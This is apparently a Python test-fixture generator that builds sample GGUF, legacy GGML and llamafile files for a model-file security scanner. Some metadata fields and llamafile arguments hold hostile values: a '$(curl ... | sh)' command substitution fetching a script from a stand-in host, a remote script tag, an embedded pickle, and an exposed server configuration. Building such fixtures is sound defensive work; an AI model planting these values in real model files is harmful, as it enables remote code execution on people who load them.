"""GGUF metadata that carries something, the formats before GGUF, and llamafiles."""

from __future__ import annotations

import base64
import struct
import zlib
from collections.abc import Iterator, Sequence

from samples.recipes.boosters import PICKLED_LIST


def _string(text: str) -> bytes:
    return struct.pack("<Q", len(text.encode())) + text.encode()


def gguf(**texts: str) -> bytes:
    """A GGUF file without tensors; `__` in a key stands for a dot."""
    pairs = [
        _string(key.replace("__", ".")) + struct.pack("<I", 8) + _string(text)
        for key, text in texts.items()
    ]
    head = b"GGUF" + struct.pack("<IQQ", 3, 0, len(pairs)) + b"".join(pairs)
    return head + bytes(-len(head) % 32)


def samples() -> Iterator[tuple[str, bytes]]:
    """Yield relative file name and bytes."""
    yield from _gguf()
    yield from _ggml()
    yield from _llamafiles()


def _gguf() -> Iterator[tuple[str, bytes]]:
    pickled = base64.b64encode(PICKLED_LIST).decode()
    yield "gguf_family/pickle.gguf", gguf(general__description=pickled)
    yield (
        "gguf_family/command.gguf",
        gguf(general__url="$(curl -s https://example.invalid/marker.sh | sh)"),
    )
    script = "<script src='https://example.invalid/marker.js'></script>"
    yield "gguf_family/script.gguf", gguf(general__author=script)
    yield (
        "gguf_family/metadata.twin.gguf",
        gguf(
            general__type="adapter",
            adapter__type="lora",
            general__source__url="https://example.invalid/base",
            general__description="Run ./main -m model.gguf -p 'import os'; see C:\\models and /data/x",
            quantize__imatrix__file="/home/user/imatrix.dat",
            tokenizer__chat_template="{{ messages[0]['content'] }} <script>",
        ),
    )


def tensor(
    dims: Sequence[int], data: bytes, *, kind: int = 0, name: bytes = b"w", at: int | None = None
) -> bytes:
    """One tensor of before GGUF; with `at`, its bytes begin at a multiple of 32 of the file."""
    head = struct.pack(f"<III{len(dims)}I", len(dims), len(name), kind, *dims) + name
    padding = b"" if at is None else bytes(-(at + len(head)) % 32)
    return head + padding + data


def ggml(magic: bytes, *tensors: bytes, words: int = 2) -> bytes:
    """The header of llama.cpp of 2023: seven numbers, a vocabulary, then tensors."""
    versioned = magic != b"lmgg"
    head = magic + (struct.pack("<I", 1) if versioned else b"")
    head += struct.pack("<7I", words, 32, 256, 4, 1, 8, 1)
    score = struct.pack("<f", 0.0) if versioned else b""
    return (
        head
        + b"".join(struct.pack("<I", 2) + b"ab" + score for _ in range(min(words, 2)))
        + b"".join(tensors)
    )


def _whisper() -> bytes:
    head = b"lmgg" + struct.pack("<11I", 2, 1500, 8, 1, 1, 448, 8, 1, 1, 2, 1)
    head += struct.pack("<II", 2, 3) + bytes(24) + struct.pack("<I", 2)
    return head + (struct.pack("<I", 1) + b"a") * 2 + tensor([2, 2], bytes(16))


def _ggml() -> Iterator[tuple[str, bytes]]:
    yield "gguf_family/llama.twin.bin", ggml(b"lmgg", tensor([4], bytes(16)))
    yield "gguf_family/whisper.twin.bin", _whisper()
    yield "gguf_family/ggmf.twin.bin", ggml(b"fmgg", tensor([4], bytes(16)))
    length = len(ggml(b"tjgg"))
    yield "gguf_family/ggjt.twin.bin", ggml(b"tjgg", tensor([4], bytes(16), at=length))
    adapter = b"algg" + struct.pack("<III", 1, 8, 16)
    yield "gguf_family/lora.twin.bin", adapter + tensor([4], bytes(16), at=16)
    yield "gguf_family/dimensions.bin", ggml(b"tjgg", struct.pack("<III", 4_000, 1, 0) + bytes(64))
    yield "gguf_family/overflow.bin", ggml(b"fmgg", tensor([2**32 - 1] * 3, bytes(16)))
    yield "gguf_family/words.bin", ggml(b"fmgg", words=2**31)
    yield "gguf_family/type.bin", ggml(b"tjgg", tensor([4], bytes(16), kind=70_000))
    yield "gguf_family/cut.bin", ggml(b"fmgg", tensor([4], bytes(10)))
    yield (
        "gguf_family/another.twin.bin",
        b"lmgg" + struct.pack("<6I", 50257, 1024, 768, 12, 12, 1) + bytes(200),
    )


def archive(prefix: bytes, **members: bytes) -> bytes:
    """A zip of stored members behind a prefix; `__` in a name stands for a dot."""
    out = bytearray(prefix)
    directory = bytearray()
    for key, data in members.items():
        name = key.replace("__", ".").encode()
        common = (0, 0, 0, 0, 33, zlib.crc32(data), len(data), len(data), len(name), 0)
        directory += (
            struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\1\2", 0, *common, 0, 0, 0, 0, len(out)) + name
        )
        out += struct.pack("<4sHHHHHIIIHH", b"PK\3\4", *common) + name + data
    end = struct.pack(
        "<4sHHHHIIH", b"PK\5\6", 0, 0, len(members), len(members), len(directory), len(out), 0
    )
    return bytes(out + directory + end)


APE = b"MZqFpD='\n" + b"\n" * 51 + struct.pack("<I", 128) + b"\n" * 64 + b"'\nexit 1\n" + b"\n" * 55
"""How an actually portable executable begins; there is no program behind it."""


def _llamafiles() -> Iterator[tuple[str, bytes]]:
    model = gguf(general__name="marker")
    usual = b"-m\nmodel.gguf\n--host\n127.0.0.1\n-ngl\n999\n...\n"
    yield "gguf_family/usual.twin.llamafile", archive(APE, model__gguf=model, __args=usual)
    listening = b"-m\nmodel.gguf\n--host\n0.0.0.0\n--unsecure\n...\n"
    yield "gguf_family/listening.llamafile", archive(APE, model__gguf=model, __args=listening)
    command = b"-m\nmodel.gguf\n-p\n$(curl -s https://example.invalid/marker.sh | sh)\n"
    yield "gguf_family/command.llamafile", archive(APE, model__gguf=model, __args=command)
    start = b"-- weighbridge-marker\n"
    yield "gguf_family/script.llamafile", archive(APE, model__gguf=model, **{"__init__lua": start})
    yield "gguf_family/no-zip.twin.llamafile", APE
